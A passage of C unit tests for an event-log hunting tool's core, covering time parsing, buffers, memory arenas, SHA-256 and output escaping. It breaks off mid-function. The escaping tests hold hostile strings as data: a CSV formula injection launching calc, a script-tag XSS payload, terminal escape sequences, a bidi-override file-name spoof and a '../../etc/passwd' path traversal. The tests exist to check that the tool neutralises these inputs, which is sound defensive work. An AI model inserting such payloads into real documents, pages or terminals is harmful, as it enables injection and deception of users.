/*
 * check_core.c -- unit tests of the small core: time conversion, buffers,
 * arenas, SHA-256, escaping for every output, and event normalisation.
 */
#include <check.h>
#include <inttypes.h>
#include <limits.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "ev_arena.h"
#include "ev_par.h"
#include "ev_buf.h"
#include "ev_json.h"
#include "ev_spill.h"
#include "ev_time.h"
#include "ev_util.h"
#include "event.h"
#include "ingest.h"
#include "report/escape.h"
#include "sha256.h"

/* ---- time ---- */

static const struct {
	const char	*in;
	const char	*iso;	/* NULL: must be rejected */
} time_cases[] = {
	{ "1601-01-01T00:00:00Z", "1601-01-01T00:00:00.0000000Z" },
	{ "1970-01-01", "1970-01-01T00:00:00.0000000Z" },
	{ "2019-03-04T11:22:33.1234567Z", "2019-03-04T11:22:33.1234567Z" },
	{ "2019-03-04T11:22:33.123456789Z", "2019-03-04T11:22:33.1234567Z" },
	{ "2019-03-04 11:22", "2019-03-04T11:22:00.0000000Z" },
	{ "2019-03-04T11:22:33+02:00", "2019-03-04T09:22:33.0000000Z" },
	{ "2019-03-04T23:30:00-01:30", "2019-03-05T01:00:00.0000000Z" },
	{ "2020-02-29T00:00:00Z", "2020-02-29T00:00:00.0000000Z" },
	{ "2019-02-29T00:00:00Z", NULL },
	{ "2019-13-01", NULL },
	{ "2019-03-04T25:00", NULL },
	{ "2019-3-4", NULL },
	{ "yesterday", NULL },
	{ "2019-03-04T11:22:33Zjunk", NULL },
	{ "", NULL },
};

START_TEST(test_time_roundtrip)
{
	char iso[EV_TIME_ISO_LEN + 1];
	uint64_t ft;
	int rc = ev_time_parse(time_cases[_i].in, &ft);

	if (time_cases[_i].iso == NULL) {
		ck_assert_msg(rc == -1, "'%s' accepted", time_cases[_i].in);
		return;
	}
	ck_assert_msg(rc == 0, "'%s' rejected", time_cases[_i].in);
	ev_time_iso(ft, iso);
	ck_assert_str_eq(iso, time_cases[_i].iso);
}
END_TEST

START_TEST(test_time_fields)
{
	uint64_t ft;

	ck_assert_int_eq(ev_time_from_fields(1601, 1, 1, 0, 0, 0, 0, &ft), 0);
	ck_assert_uint_eq(ft, 0);
	ck_assert_int_eq(ev_time_from_fields(1970, 1, 1, 0, 0, 0, 0, &ft), 0);
	ck_assert_uint_eq(ft, 116444736000000000ULL);
	ck_assert_int_eq(ev_time_unix(ft), 0);
	ck_assert_int_eq(ev_time_from_fields(2019, 2, 29, 0, 0, 0, 0, &ft),
	    -1);
	ck_assert_int_eq(ev_time_from_fields(1600, 1, 1, 0, 0, 0, 0, &ft),
	    -1);
}
END_TEST

/* the end of a window: a date alone covers the whole day */
START_TEST(test_time_end)
{
	static const struct {
		const char	*in, *iso;
	} c[] = {
		{ "2019-05-02", "2019-05-02T23:59:59.9999999Z" },
		{ "2019-05-02Z", "2019-05-02T23:59:59.9999999Z" },
		{ "2019-05-02+02:00", "2019-05-02T21:59:59.9999999Z" },
		{ "2019-05-02T00:00", "2019-05-02T00:00:00.0000000Z" },
		{ "2019-05-02 10:00:00Z", "2019-05-02T10:00:00.0000000Z" },
	};
	char iso[EV_TIME_ISO_LEN + 1];
	uint64_t ft, from;

	for (size_t i = 0; i < NELEM(c); i++) {
		ck_assert_int_eq(ev_time_parse_end(c[i].in, &ft), 0);
		ev_time_iso(ft, iso);
		ck_assert_str_eq(iso, c[i].iso);
	}
	ck_assert_int_eq(ev_time_parse_end("2019-05-32", &ft), -1);
	/* --from D --to D is the whole day, not an empty window */
	ck_assert_int_eq(ev_time_parse("2019-05-02", &from), 0);
	ck_assert_int_eq(ev_time_parse_end("2019-05-02", &ft), 0);
	ck_assert_uint_eq(ft - from, 864000000000ULL - 1);
}
END_TEST

/* human formats in a display zone, with the offset of each instant */
START_TEST(test_time_zone)
{
	char buf[EV_TIME_MAX_LEN + 1];
	uint64_t winter, summer;

	ck_assert_int_eq(ev_time_parse("2024-01-15T12:00:00.5Z", &winter), 0);
	ck_assert_int_eq(ev_time_parse("2024-07-15T12:00:00Z", &summer), 0);
	/* no zone: UTC with Z, also for a human format */
	ck_assert_int_eq(ev_time_set_zone(NULL), 0);
	ck_assert_str_eq(ev_time_format(winter, EV_TIME_LOCAL, buf),
	    "2024-01-15T12:00:00.5000000Z");
	ck_assert_int_eq(ev_time_set_zone("Europe/Berlin"), 0);
	ck_assert_str_eq(ev_time_format(winter, EV_TIME_LOCAL, buf),
	    "2024-01-15T13:00:00.5000000+01:00");
	ck_assert_str_eq(ev_time_format(summer, EV_TIME_LOCAL, buf),
	    "2024-07-15T14:00:00.0000000+02:00");
	/* machine formats stay UTC */
	ck_assert_str_eq(ev_time_format(summer, 0, buf),
	    "2024-07-15T12:00:00.0000000Z");
	ck_assert_int_eq(ev_time_set_zone("America/St_Johns"), 0);
	ck_assert_str_eq(ev_time_format(winter, EV_TIME_LOCAL, buf),
	    "2024-01-15T08:30:00.5000000-03:30");
	ck_assert_int_eq(ev_time_set_zone("EST5EDT,M3.2.0,M11.1.0"), 0);
	ck_assert_str_eq(ev_time_format(summer, EV_TIME_LOCAL, buf),
	    "2024-07-15T08:00:00.0000000-04:00");
	/* unknown names are refused and leave the zone as it was */
	ck_assert_int_eq(ev_time_set_zone("Mars/Olympus_Mons"), -1);
	ck_assert_int_eq(ev_time_set_zone("../../etc/passwd"), -1);
	ck_assert_int_eq(ev_time_set_zone("xy"), -1);
	ck_assert_str_eq(ev_time_format(summer, EV_TIME_LOCAL, buf),
	    "2024-07-15T08:00:00.0000000-04:00");
	ck_assert_int_eq(ev_time_set_zone("UTC"), 0);
	ck_assert_str_eq(ev_time_format(summer, EV_TIME_LOCAL, buf),
	    "2024-07-15T12:00:00.0000000Z");
}
END_TEST

/* ---- buffers and arenas ---- */

/* EV_GROW: first size, doubling, contents kept, overflow refused. */
START_TEST(test_grow)
{
	uint64_t *v = NULL;
	size_t n = 0, cap = 0, big = SIZE_MAX / 2 + 1;

	for (; n < 100; n++) {
		ck_assert_int_eq(EV_GROW(v, n, cap, 4), 0);
		ck_assert_uint_ge(cap, n + 1);
		v[n] = n * 7;
	}
	ck_assert_uint_eq(cap, 128);
	for (size_t i = 0; i < n; i++)
		ck_assert_uint_eq(v[i], i * 7);
	ck_assert_int_eq(EV_GROW(v, 50, cap, 4), 0);	/* room: no change */
	ck_assert_uint_eq(cap, 128);
	ck_assert_int_eq(ev_grow(&v, &big, big, sizeof(*v), 4), -1);
	ck_assert_uint_eq(big, SIZE_MAX / 2 + 1);
	free(v);
}
END_TEST

START_TEST(test_buf)
{
	struct ev_buf b = EV_BUF_INIT;
	char *s;
	size_t len;

	ck_assert_str_eq(b.buf, "");
	for (int i = 0; i < 1000; i++)
		ev_buf_addf(&b, "%d,", i);
	ev_buf_adds(&b, "end");
	ck_assert(!ev_buf_failed(&b));
	ck_assert(strncmp(b.buf, "0,1,2,", 6) == 0);
	ck_assert(strcmp(b.buf + b.len - 7, "999,end") == 0);
	s = ev_buf_detach(&b, &len);
	ck_assert_uint_eq(strlen(s), len);
	ck_assert_str_eq(b.buf, "");	/* empty and reusable */
	ck_assert_uint_eq(b.len, 0);
	free(s);
	ev_buf_addc(&b, 'x');
	ck_assert_str_eq(b.buf, "x");
	ev_buf_release(&b);
	ck_assert_uint_eq(b.cap, 0);
}
END_TEST

/*
 * ev_buf_addf writes the simple conversions itself (%s %c %d %i %u, l,
 * ll, z, %%) and leaves the rest to vsnprintf: the same text either way.
 */
START_TEST(test_buf_addf)
{
	struct ev_buf b = EV_BUF_INIT;
	char want[512];

#define SAME(...) do {							\
	ev_buf_reset(&b);						\
	ev_buf_adds(&b, "<");						\
	ev_buf_addf(&b, __VA_ARGS__);					\
	want[0] = '<';							\
	snprintf(want + 1, sizeof(want) - 1, __VA_ARGS__);		\
	ck_assert_str_eq(b.buf, want);					\
	ck_assert_uint_eq(b.len, strlen(want));				\
} while (0)
	SAME("plain");
	SAME("%s|%s|%c|%%|%d", "a", "", 'x', 0);
	SAME("%d %d %i %u %u", INT_MIN, INT_MAX, -1, 0u, UINT_MAX);
	SAME("%ld %lu %lld %llu", LONG_MIN, ULONG_MAX, LLONG_MIN,
	    ULLONG_MAX);
	SAME("%zu %zd %zu", SIZE_MAX, (ssize_t)-5, (size_t)42);
	SAME("%" PRIu64 ",%" PRIu32 ",%" PRId64, UINT64_MAX, UINT32_MAX,
	    INT64_MIN);
	SAME("%.2f|%5d|%-3s|%x|%.3s", 7.275, 42, "ab", 255u, "abcdef");
#undef SAME
	ev_buf_release(&b);
}
END_TEST

/* ev_buf_add_lower: ASCII A-Z only, every byte value, any length. */
START_TEST(test_buf_lower)
{
	struct ev_buf b = EV_BUF_INIT;
	char in[300];

	for (int i = 0; i < 255; i++)
		in[i] = (char)(i + 1);		/* 1..255, then NUL */
	in[255] = '\0';
	for (size_t start = 0; start < 20; start++) {
		ev_buf_reset(&b);
		ev_buf_adds(&b, "K:");
		ev_buf_add_lower(&b, in + start);
		ck_assert_uint_eq(b.len, 2 + 255 - start);
		for (size_t i = start; i < 255; i++) {
			unsigned char c = (unsigned char)in[i];

			ck_assert_uint_eq((unsigned char)b.buf[2 + i - start],
			    c >= 'A' && c <= 'Z' ? c + 32 : c);
		}
		ck_assert_int_eq(b.buf[b.len], '\0');
	}
	ev_buf_reset(&b);
	ev_buf_add_lower(&b, NULL);
	ev_buf_add_lower(&b, "");
	ev_buf_add_lower(&b, "WKS01.CORP.Local\x1f{AB-cd}");
	ck_assert_str_eq(b.buf, "wks01.corp.local\x1f{ab-cd}");
	ev_buf_release(&b);
}
END_TEST

START_TEST(test_arena)
{
	struct ev_arena a = EV_ARENA_INIT;
	char *p[200];

	for (int i = 0; i < 200; i++) {
		size_t n = (size_t)(i * 997 % 40000) + 1;

		p[i] = ev_arena_alloc(&a, n);
		ck_assert_ptr_nonnull(p[i]);
		ck_assert_uint_eq((uintptr_t)p[i] % 8, 0);
		memset(p[i], i & 0xff, n);
	}
	for (int i = 0; i < 200; i++)
		ck_assert_int_eq((unsigned char)p[i][0], i & 0xff);
	ck_assert_str_eq(ev_arena_strndup(&a, "hello world", 5), "hello");
	ev_arena_reset(&a);
	ck_assert_ptr_nonnull(ev_arena_alloc(&a, 16));
	ev_arena_release(&a);
	ck_assert_ptr_null(a.head);
}
END_TEST

/* ev_par_for_t(): every index once, each thread number below threads
   and never in two calls at once (a slot's flag would be seen taken). */
struct par_check {
	atomic_int	 done[1000];
	atomic_bool	 inuse[20];
	atomic_int	 bad;
	unsigned	 threads;
};

static void
par_check_one(void *arg, unsigned i, unsigned t)
{
	struct par_check *c = arg;

	if (t >= c->threads || atomic_exchange(&c->inuse[t], true))
		atomic_fetch_add(&c->bad, 1);
	atomic_fetch_add(&c->done[i], 1);
	for (volatile int k = 0; k < 1000; k++)
		;
	if (t < c->threads)
		atomic_store(&c->inuse[t], false);
}

START_TEST(test_par_threads)
{
	static const unsigned threads[] = { 0, 1, 2, 3, 17, 20 };

	for (size_t k = 0; k < sizeof(threads) / sizeof(threads[0]); k++) {
		static struct par_check c;

		memset(&c, 0, sizeof(c));
		c.threads = threads[k] ? threads[k] : 1;
		ev_par_for_t(1000, threads[k], par_check_one, &c);
		ck_assert_int_eq(atomic_load(&c.bad), 0);
		for (int i = 0; i < 1000; i++)
			ck_assert_int_eq(atomic_load(&c.done[i]), 1);
	}
}
END_TEST

/* Tables: zeroed, writable to the last byte, below and above 2 MiB. */
START_TEST(test_table)
{
	static const size_t sizes[] = { 1, 4096, ((size_t)2 << 20) - 1,
	    (size_t)2 << 20, ((size_t)4 << 20) + 36 * 1024 + 8 };

	for (size_t k = 0; k < sizeof(sizes) / sizeof(sizes[0]); k++) {
		size_t n = sizes[k];
		unsigned char *p = ev_table_alloc(n);

		ck_assert_ptr_nonnull(p);
		for (size_t i = 0; i < n; i += 4093)
			ck_assert_uint_eq(p[i], 0);
		ck_assert_uint_eq(p[n - 1], 0);
		if (n >= ((size_t)2 << 20))
			ck_assert_uint_eq((uintptr_t)p % ((size_t)2 << 20), 0);
		memset(p, 0xa5, n);
		ck_assert_uint_eq(p[n - 1], 0xa5);
		ev_table_free(p, n);
	}
	ev_table_free(NULL, 10);
}
END_TEST

/* Pooled arenas: slices of the shared reservation, reused once released. */
START_TEST(test_arena_pool)
{
	struct ev_arena a = EV_ARENA_INIT, b = EV_ARENA_INIT;
	char *p, *q, *big;

	ev_arena_pool(&a);
	ev_arena_pool(&b);
	p = ev_arena_alloc(&a, 100);
	for (int i = 0; i < 3000; i++)	/* past one 2 MiB slice */
		ck_assert_ptr_nonnull(q = ev_arena_alloc(&b, 1000));
	ck_assert_uint_eq((uintptr_t)p % 8, 0);
	ck_assert_uint_eq((uintptr_t)q % 8, 0);
	ck_assert_uint_lt(p > q ? (uintptr_t)(p - q) : (uintptr_t)(q - p),
	    EV_ARENA_POOL);
	/* a request over a quarter of a slice: its own block */
	big = ev_arena_alloc(&b, (size_t)1 << 20);
	ck_assert_ptr_nonnull(big);
	memset(big, 1, (size_t)1 << 20);
	ev_arena_reset(&b);
	ck_assert(b.pooled);
	ev_arena_release(&b);
	ck_assert(b.pooled);
	/* released slices are handed out again */
	ck_assert_ptr_nonnull(ev_arena_alloc(&b, 64));
	ev_arena_release(&b);
	ev_arena_release(&a);
}
END_TEST

/* Bytes the file fd holds on disk. */
static long long
file_blocks(int fd)
{
	struct stat st;

	ck_assert_int_eq(fstat(fd, &st), 0);
	return (long long)st.st_blocks * 512;
}

/*
 * Whether the file fd holds the string s somewhere (read in 1 MiB, its
 * holes skipped: a big array's bytes lie past the pool's 16 GiB).
 */
static bool
file_holds(int fd, const char *s)
{
	static char buf[(1 << 20) + 64];
	size_t n = strlen(s);
	off_t at = 0, data;
	ssize_t got;

	while ((data = lseek(fd, at, SEEK_DATA)) >= 0 &&
	    (got = pread(fd, buf, sizeof(buf), at = data)) > (ssize_t)n) {
		if (memmem(buf, (size_t)got, s, n) != NULL)
			return true;
		at += got - (off_t)n;
	}
	return false;
}

/*
 * A pool backed by a file: past the threshold, slices are the file's
 * pages (its disk blocks reserved, what is written there is in the
 * file), and a slice given back leaves the file; under the threshold,
 * memory as before.
 */
START_TEST(test_arena_pool_file)
{
	struct ev_err err = EV_ERR_INIT;
	struct ev_arena a = EV_ARENA_INIT;
	const char *dir = getenv("TMPDIR") != NULL ? getenv("TMPDIR") : "/tmp";
	int fd, probe, pipefd[2];
	char *p;

	fd = ev_spill_tmpfile(dir, &err);
	ck_assert_msg(fd >= 0, "%s", err.msg);
	probe = dup(fd);
	ck_assert_int_ge(probe, 0);
	/* under the threshold: nothing in the file */
	ck_assert_int_eq(ev_arena_pool_file(fd, (size_t)1 << 40), 0);
	ev_arena_pool(&a);
	for (int i = 0; i < 3000; i++)	/* past one 2 MiB slice */
		ck_assert_ptr_nonnull(ev_arena_alloc(&a, 1000));
	ck_assert_int_eq(file_blocks(probe), 0);
	ev_arena_release(&a);
	/* past it (0): every slice handed out is the file's */
	ck_assert_int_eq(ev_arena_pool_file(fd = dup(probe), 0), 0);
	for (int i = 0; i < 3000; i++) {
		ck_assert_ptr_nonnull(p = ev_arena_alloc(&a, 1000));
		snprintf(p, 1000, "evtxhunt-pool-%04d", i);
	}
	ck_assert_int_ge(file_blocks(probe), 2 << 20);
	ck_assert_uint_ge(ev_arena_pool_paged(), (size_t)2 << 20);
	ck_assert(file_holds(probe, "evtxhunt-pool-0000"));
	ck_assert(file_holds(probe, "evtxhunt-pool-2999"));
	ck_assert_str_eq(p, "evtxhunt-pool-2999");
	/* given back: out of the file, and still usable as memory */
	ev_arena_release(&a);
	ck_assert_int_eq(file_blocks(probe), 0);
	ck_assert_uint_eq(ev_arena_pool_paged(), 0);
	ck_assert(!file_holds(probe, "evtxhunt-pool-"));
	ck_assert_int_eq(ev_arena_pool_file(-1, 0), 0);
	ck_assert_ptr_nonnull(p = ev_arena_alloc(&a, 64));
	strcpy(p, "anonymous");
	ck_assert(!file_holds(probe, "anonymous"));
	ev_arena_release(&a);
	close(probe);
	/* a file whose blocks cannot be reserved (a pipe; a full disk):
	   the slices are memory as without one */
	ck_assert_int_eq(pipe(pipefd), 0);
	ck_assert_int_eq(ev_arena_pool_file(pipefd[1], 0), 0);
	for (int i = 0; i < 3000; i++) {
		ck_assert_ptr_nonnull(p = ev_arena_alloc(&a, 1000));
		memset(p, 'x', 1000);
	}
	ck_assert_uint_eq(ev_arena_pool_paged(), 0);
	ev_arena_release(&a);
	ck_assert_int_eq(ev_arena_pool_file(-1, 0), 0);
	close(pipefd[0]);
}
END_TEST

/* The VmFlags of the mapping holding p (/proc/self/smaps), or "". */
static const char *
vm_flags(const void *p)
{
	static char flags[512];
	char line[512];
	FILE *fp = fopen("/proc/self/smaps", "r");
	bool in = false;

	flags[0] = '\0';
	ck_assert_ptr_nonnull(fp);
	while (fgets(line, sizeof(line), fp) != NULL) {
		unsigned long lo, hi;

		if (sscanf(line, "%lx-%lx ", &lo, &hi) == 2)
			in = (uintptr_t)p >= lo && (uintptr_t)p < hi;
		else if (in && strncmp(line, "VmFlags:", 8) == 0) {
			snprintf(flags, sizeof(flags), "%s", line + 8);
			break;
		}
	}
	fclose(fp);
	return flags;
}

/* The pool's pages are advised random for a step, and back. */
START_TEST(test_pool_advise)
{
	struct ev_arena a = EV_ARENA_INIT;
	void *p;

	ev_arena_pool(&a);
	ck_assert_ptr_nonnull(p = ev_arena_alloc(&a, 64));
	ev_arena_pool_advise(true);
	ck_assert_ptr_nonnull(strstr(vm_flags(p), " rr"));
	ev_arena_pool_advise(false);
	ck_assert_ptr_null(strstr(vm_flags(p), " rr"));
	ev_arena_release(&a);
}
END_TEST

/*
 * Big arrays: malloc's while the pool has no file or is under its
 * threshold; past it, 256 KiB and more are the file's pages (zeroed when
 * asked), keep their bytes as they grow from malloc into the file, and
 * leave the file when freed; where the file cannot reserve blocks (a
 * pipe), malloc's again.
 */
START_TEST(test_big_file)
{
	struct ev_err err = EV_ERR_INIT;
	const char *dir = getenv("TMPDIR") != NULL ? getenv("TMPDIR") : "/tmp";
	size_t big = (size_t)1 << 20, cap = 0;
	int fd, probe, pipefd[2];
	unsigned char *p, *z;
	uint32_t *v = NULL;

	fd = ev_spill_tmpfile(dir, &err);
	ck_assert_msg(fd >= 0, "%s", err.msg);
	probe = dup(fd);
	ck_assert_int_ge(probe, 0);
	/* no file: memory */
	ck_assert_ptr_nonnull(p = ev_big_alloc(big));
	memset(p, 'a', big);
	ck_assert_uint_eq(ev_arena_pool_paged(), 0);
	/* under the threshold: memory, grown in place by realloc */
	ck_assert_int_eq(ev_arena_pool_file(fd, (size_t)1 << 40), 0);
	ck_assert_ptr_nonnull(p = ev_big_realloc(p, 2 * big));
	ck_assert_int_eq(file_blocks(probe), 0);
	ck_assert(p[0] == 'a' && p[big - 1] == 'a');
	/* ... unless asked for the file in any case */
	ck_assert_ptr_nonnull(z = ev_big_alloc_paged(big));
	ck_assert_uint_ge(ev_arena_pool_paged(), big);
	ev_big_free(z);
	ck_assert_uint_eq(ev_arena_pool_paged(), 0);
	/* past it (0): grown into the file, its bytes kept */
	ck_assert_int_eq(ev_arena_pool_file(fd = dup(probe), 0), 0);
	ck_assert_ptr_nonnull(p = ev_big_realloc(p, 3 * big));
	ck_assert(p[0] == 'a' && p[big - 1] == 'a');
	memcpy(p + 2 * big, "evtxhunt-big-array", 19);
	ck_assert_uint_ge(ev_arena_pool_paged(), 3 * big);
	ck_assert_int_ge(file_blocks(probe), (off_t)(3 * big));
	ck_assert(file_holds(probe, "evtxhunt-big-array"));
	/* zeroed from the file; a small one from malloc */
	ck_assert_ptr_nonnull(z = ev_big_calloc(big / 8, 8));
	for (size_t i = 0; i < big; i += 4096)
		ck_assert_uint_eq(z[i], 0);
	ck_assert_uint_ge(ev_arena_pool_paged(), 4 * big);
	ev_big_free(z);
	/* an array grown by EV_BIG_GROW: small in memory, then the file's */
	for (uint32_t i = 0; i < 200000; i++) {
		ck_assert_int_eq(EV_BIG_GROW(v, i, cap, 64), 0);
		v[i] = i;
	}
	for (uint32_t i = 0; i < 200000; i++)
		ck_assert_uint_eq(v[i], i);
	ck_assert_uint_ge(ev_arena_pool_paged(), 3 * big + 200000 * 4);
	ev_big_free(v);
	/* freed: out of the file */
	ev_big_free(p);
	ck_assert_uint_eq(ev_arena_pool_paged(), 0);
	ck_assert_int_eq(file_blocks(probe), 0);
	ck_assert(!file_holds(probe, "evtxhunt-big-array"));
	ev_big_free(NULL);
	close(probe);
	/* a file whose blocks cannot be reserved: memory */
	ck_assert_int_eq(pipe(pipefd), 0);
	ck_assert_int_eq(ev_arena_pool_file(pipefd[1], 0), 0);
	ck_assert_ptr_nonnull(p = ev_big_calloc(1, big));
	ck_assert_uint_eq(p[big - 1], 0);
	ck_assert_uint_eq(ev_arena_pool_paged(), 0);
	ev_big_free(p);
	ck_assert_int_eq(ev_arena_pool_file(-1, 0), 0);
	close(pipefd[0]);
}
END_TEST

/*
 * Events packed in a pooled arena hold their columns as offsets; a value
 * outside the pool (a literal) is copied for it when short, and a long
 * one makes pointers; an arena not pooled makes pointers.  Each reads
 * back the same.
 */
START_TEST(test_cols_offsets)
{
	struct ev_arena a = EV_ARENA_INIT, b = EV_ARENA_INIT,
	    plain = EV_ARENA_INIT;
	const char *cols[EV_NCOL] = { NULL };
	char longv[200];
	struct ev_event ev;
	const char *s;

	ev_arena_pool(&a);
	ev_arena_pool(&b);
	/* strings in one pooled arena, the arrays in the other */
	cols[EV_COL_IMAGE] = ev_arena_strdup(&a, "C:\\Windows\\cmd.exe");
	cols[EV_COL_COMMAND_LINE] = ev_arena_strdup(&a, "cmd /c whoami");
	cols[EV_COL_USER] = s = ev_arena_strdup(&b, "CORP\\alice");
	ck_assert_int_eq(ev_cols_pack(&ev, cols, &b), 0);
	ck_assert(ev.colrel);
	ck_assert_ptr_eq(ev_col(&ev, EV_COL_IMAGE), cols[EV_COL_IMAGE]);
	ck_assert_ptr_eq(ev_col(&ev, EV_COL_COMMAND_LINE),
	    cols[EV_COL_COMMAND_LINE]);
	ck_assert_ptr_eq(ev_col(&ev, EV_COL_USER), s);
	ck_assert_ptr_null(ev_col(&ev, EV_COL_PID));
	/* a short literal: copied, still offsets */
	cols[EV_COL_SIGNED] = "1";
	ck_assert_int_eq(ev_cols_pack(&ev, cols, &b), 0);
	ck_assert(ev.colrel);
	ck_assert_str_eq(ev_col(&ev, EV_COL_SIGNED), "1");
	ck_assert_ptr_eq(ev_col(&ev, EV_COL_USER), s);
	/* a long value from elsewhere: pointers */
	memset(longv, 'x', sizeof(longv) - 1);
	longv[sizeof(longv) - 1] = '\0';
	cols[EV_COL_HASHES] = longv;
	ck_assert_int_eq(ev_cols_pack(&ev, cols, &b), 0);
	ck_assert(!ev.colrel);
	ck_assert_ptr_eq(ev_col(&ev, EV_COL_HASHES), longv);
	ck_assert_str_eq(ev_col(&ev, EV_COL_SIGNED), "1");
	ck_assert_ptr_eq(ev_col(&ev, EV_COL_USER), s);
	/* an arena not pooled: pointers */
	cols[EV_COL_HASHES] = NULL;
	ck_assert_int_eq(ev_cols_pack(&ev, cols, &plain), 0);
	ck_assert(!ev.colrel);
	ck_assert_ptr_eq(ev_col(&ev, EV_COL_IMAGE), cols[EV_COL_IMAGE]);
	ev_arena_release(&plain);
	ev_arena_release(&b);
	ev_arena_release(&a);
}
END_TEST

START_TEST(test_parse_numbers)
{
	uint64_t u;
	int64_t v;

	ck_assert_int_eq(ev_parse_uint("12", 1, 256, &u), 0);
	ck_assert_uint_eq(u, 12);
	ck_assert_int_eq(ev_parse_uint("0", 1, 256, &u), -1);
	ck_assert_int_eq(ev_parse_uint("257", 1, 256, &u), -1);
	ck_assert_int_eq(ev_parse_uint("12x", 1, 256, &u), -1);
	ck_assert_int_eq(ev_parse_uint("-1", 0, 256, &u), -1);
	ck_assert_int_eq(ev_parse_int_auto("0x4d2", &v), 0);
	ck_assert_int_eq(v, 1234);
	ck_assert_int_eq(ev_parse_int_auto("1234", &v), 0);
	ck_assert_int_eq(v, 1234);
	ck_assert_int_eq(ev_parse_int_auto("0x", &v), -1);
	ck_assert_int_eq(ev_parse_int_auto("abc", &v), -1);
}
END_TEST

START_TEST(test_basename)
{
	ck_assert_str_eq(ev_basename("C:\\Windows\\System32\\cmd.exe"),
	    "cmd.exe");
	ck_assert_str_eq(ev_basename("/usr/bin/pwsh"), "pwsh");
	ck_assert_str_eq(ev_basename("C:\\a/b\\c.exe"), "c.exe");
	ck_assert_str_eq(ev_basename("rundll32.exe"), "rundll32.exe");
	ck_assert_str_eq(ev_basename("C:\\dir\\"), "");
	ck_assert_ptr_null(ev_basename(NULL));
}
END_TEST

START_TEST(test_json_strv)
{
	static const char *const v[] = { "a\"b", "c\x1b" };
	struct ev_buf b = EV_BUF_INIT;

	ev_json_strv(&b, v, 2);
	ck_assert_str_eq(b.buf, "[\"a\\\"b\",\"c\\u001b\"]");
	ev_buf_reset(&b);
	ev_json_strv(&b, NULL, 0);
	ck_assert_str_eq(b.buf, "[]");
	ev_buf_release(&b);
}
END_TEST

/* ---- SHA-256 (FIPS 180-4 examples) ---- */

START_TEST(test_sha256)
{
	struct sha256 s;
	char hex[65];
	char *million;

	sha256_init(&s);
	sha256_final_hex(&s, hex);
	ck_assert_str_eq(hex, "e3b0c44298fc1c149afbf4c8996fb924"
	    "27ae41e4649b934ca495991b7852b855");
	sha256_init(&s);
	sha256_update(&s, "abc", 3);
	sha256_final_hex(&s, hex);
	ck_assert_str_eq(hex, "ba7816bf8f01cfea414140de5dae2223"
	    "b00361a396177a9cb410ff61f20015ad");
	sha256_init(&s);
	sha256_update(&s, "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnop"
	    "nopq", 56);
	sha256_final_hex(&s, hex);
	ck_assert_str_eq(hex, "248d6a61d20638b8e5c026930c3e6039"
	    "a33ce45964ff2167f6ecedd419db06c1");
	million = malloc(1000000);
	memset(million, 'a', 1000000);
	sha256_init(&s);
	for (int i = 0; i < 1000000; i += 999)	/* odd-sized pieces */
		sha256_update(&s, million + i, i + 999 > 1000000 ?
		    (size_t)(1000000 - i) : 999);
	sha256_final_hex(&s, hex);
	free(million);
	ck_assert_str_eq(hex, "cdc76e5c9914fb9281a1c7e284d73e67"
	    "f1809a48a497200e046d39ccc7112cd0");
}
END_TEST

/* ---- escaping hostile strings ---- */

static const struct {
	const char	*name;
	const char	*in;
	const char	*json, *csv, *text, *html;
} esc_cases[] = {
	{ "plain", "C:\\Windows\\system32\\cmd.exe",
	  "\"C:\\\\Windows\\\\system32\\\\cmd.exe\"",
	  "C:\\Windows\\system32\\cmd.exe",
	  "C:\\Windows\\system32\\cmd.exe",
	  "C:\\Windows\\system32\\cmd.exe" },
	{ "terminal escape", "a\x1b[2J\x1b]0;pwned\x07z",
	  "\"a\\u001b[2J\\u001b]0;pwned\\u0007z\"",
	  "a\xef\xbf\xbd[2J\xef\xbf\xbd]0;pwned\xef\xbf\xbdz",
	  "a\\e[2J\\e]0;pwned\\x07z",
	  "a&#xfffd;[2J&#xfffd;]0;pwned&#xfffd;z" },
	{ "formula", "=cmd|' /C calc'!A0",
	  "\"=cmd|' /C calc'!A0\"",
	  "\"'=cmd|' /C calc'!A0\"",
	  "=cmd|' /C calc'!A0",
	  "=cmd|&#39; /C calc&#39;!A0" },
	{ "plus", "+1", "\"+1\"", "\"'+1\"", "+1", "+1" },
	{ "minus", "-urlcache", "\"-urlcache\"", "\"'-urlcache\"",
	  "-urlcache", "-urlcache" },
	{ "at", "@SUM(1)", "\"@SUM(1)\"", "\"'@SUM(1)\"", "@SUM(1)",
	  "@SUM(1)" },
	{ "script", "</script><script>alert(1)</script>",
	  "\"</script><script>alert(1)</script>\"",
	  "</script><script>alert(1)</script>",
	  "</script><script>alert(1)</script>",
	  "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" },
	{ "quotes and commas", "a \"b\", c",
	  "\"a \\\"b\\\", c\"", "\"a \"\"b\"\", c\"", "a \"b\", c",
	  "a &quot;b&quot;, c" },
	{ "newline", "a\r\nb", "\"a\\r\\nb\"", "\"a\r\nb\"", "a\\x0d\\x0ab",
	  "a&#xfffd;\nb" },
	{ "invalid utf-8", "a\xff\xc3(z", "\"a\xef\xbf\xbd\xef\xbf\xbd(z\"",
	  "a\xef\xbf\xbd\xef\xbf\xbd(z", "a\xef\xbf\xbd\xef\xbf\xbd(z",
	  "a\xef\xbf\xbd\xef\xbf\xbd(z" },
	{ "bidi override", "evil\xe2\x80\xaetxt.exe",
	  "\"evil\\u202etxt.exe\"", "evil\xef\xbf\xbdtxt.exe",
	  "evil\\u202etxt.exe", "evil\xe2\x80\xaetxt.exe" },
	{ "c1 csi", "a\xc2\x9b" "31mz", "\"a\\u009b31mz\"",
	  "a\xef\xbf\xbd" "31mz", "a\\u009b31mz", "a&#xfffd;31mz" },
	{ "line separator", "a\xe2\x80\xa8z", "\"a\\u2028z\"",
	  "a\xe2\x80\xa8z", "a\xe2\x80\xa8z", "a\xe2\x80\xa8z" },
};

START_TEST(test_escape)
{
	struct ev_buf b = EV_BUF_INIT;

	ev_json_str(&b, esc_cases[_i].in);
	ck_assert_msg(strcmp(b.buf, esc_cases[_i].json) == 0,
	    "%s: json '%s'", esc_cases[_i].name, b.buf);
	ev_buf_reset(&b);
	report_csv_cell(&b, esc_cases[_i].in);
	ck_assert_msg(strcmp(b.buf, esc_cases[_i].csv) == 0,
	    "%s: csv '%s'", esc_cases[_i].name, b.buf);
	ev_buf_reset(&b);
	report_text_safe(&b, esc_cases[_i].in);
	ck_assert_msg(strcmp(b.buf, esc_cases[_i].text) == 0,
	    "%s: text '%s'", esc_cases[_i].name, b.buf);
